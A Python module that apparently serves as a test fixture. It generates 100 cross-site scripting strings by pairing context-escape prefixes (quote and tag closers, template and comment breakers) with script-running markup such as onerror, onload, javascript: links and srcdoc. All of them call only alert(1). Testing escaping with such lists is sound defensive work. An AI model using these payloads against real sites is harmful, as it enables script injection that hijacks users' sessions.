"""A hundred texts that would run as script if any page wrote one of them as markup."""

from __future__ import annotations

from itertools import product

#: What leaves the place where the text stands: text, attribute, script, comment, template, style.
_LEAVES = (
    "",
    '">',
    "'>",
    "</script>",
    "--></textarea></title></style>",
    "${",
    "{{",
    "\\u003c/script\\u003e",
    "]]>",
    "\u2028",
)
_RUNS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    '" onfocus=alert(1) autofocus x="',
    "' onmouseover='alert(1)",
    "<math><mtext><style><img src=x onerror=alert(1)></style>",
    "<object data=data:text/html,<script>alert(1)</script>>",
)
HUNDRED = tuple(leave + run for leave, run in product(_LEAVES, _RUNS))
